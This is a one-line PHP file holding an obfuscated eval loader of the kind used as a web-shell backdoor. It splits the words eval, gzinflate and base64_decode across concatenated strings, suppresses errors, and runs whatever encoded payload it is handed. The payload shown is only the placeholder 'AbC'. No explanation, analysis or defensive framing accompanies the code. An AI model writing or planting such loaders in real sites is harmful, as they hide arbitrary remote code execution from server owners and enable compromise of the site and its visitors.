<?php $z = @create_function('$x', 'ev'.'al'.'(gz'.'inflate(base'.'64_decode($x)));'); $z("AbC");
